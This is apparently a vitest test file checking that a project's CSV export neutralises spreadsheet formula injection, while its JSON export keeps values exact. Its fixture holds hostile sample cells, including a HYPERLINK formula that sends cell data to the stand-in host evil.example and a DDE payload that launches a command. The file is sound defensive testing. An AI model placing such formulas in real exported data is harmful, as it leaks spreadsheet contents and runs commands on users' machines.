/**
 * `/cases.csv` is safe to open in a spreadsheet: a cell that would start with a formula
 * character is neutralised as OWASP recommends, and read back by a CSV parser this project
 * did not write (csv-parse), while `/cases.json` keeps every value exactly.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { caseSchema } from '../../src/lib/content/schema.ts';
import { csvField, toCasesCsv, toCasesJson } from '../../src/lib/data/export.ts';
import { readContentFiles } from '../support/content';

/** OWASP's formula-starting characters, each at the head of a value an editor could write. */
const DANGEROUS = {
  '=': '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
  '+': '+1+2',
  '-': '-2+3',
  '@': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+2',
  'carriage return': '\r=1+2',
};

describe('formula characters in cases.csv', () => {
  const [file] = readContentFiles();
  const data = caseSchema.parse(file.data);
  const entries = Object.values(DANGEROUS).map((value, index) => ({
    id: `case-${index}`,
    data: { ...data, title: value, place: { ...data.place, name: value }, summary: value },
  }));
  const rows: Record<string, string>[] = parse(toCasesCsv(entries), { columns: true, record_delimiter: '\r\n' });

  for (const [name, value] of Object.entries(DANGEROUS)) {
    it(`a cell starting with ${name} starts with an apostrophe and is quoted`, () => {
      const row = rows[Object.values(DANGEROUS).indexOf(value)];
      for (const column of ['title', 'place.name', 'summary']) expect(row[column], column).toBe(`'${value}`);
      expect(csvField(value)).toMatch(/^"'/);
    });
  }

  it('leaves other cells as they were, and the JSON exact', () => {
    expect(csvField('Baotou, Inner Mongolia')).toBe('"Baotou, Inner Mongolia"');
    expect(csvField('a - b = c')).toBe('a - b = c');
    const json = JSON.parse(toCasesJson(entries)) as { cases: { title: string; summary: string }[] };
    expect(json.cases.map((record) => record.title)).toEqual(Object.values(DANGEROUS));
    expect(json.cases.map((record) => record.summary)).toEqual(Object.values(DANGEROUS));
  });

  it('the real cases read back unchanged: none starts with a formula character', () => {
    const real = readContentFiles().map((content) => ({ id: content.slug, data: caseSchema.parse(content.data) }));
    const read: Record<string, string>[] = parse(toCasesCsv(real), { columns: true, record_delimiter: '\r\n' });
    expect(read.map((row) => row.title)).toEqual(real.map((entry) => entry.data.title));
  });
});
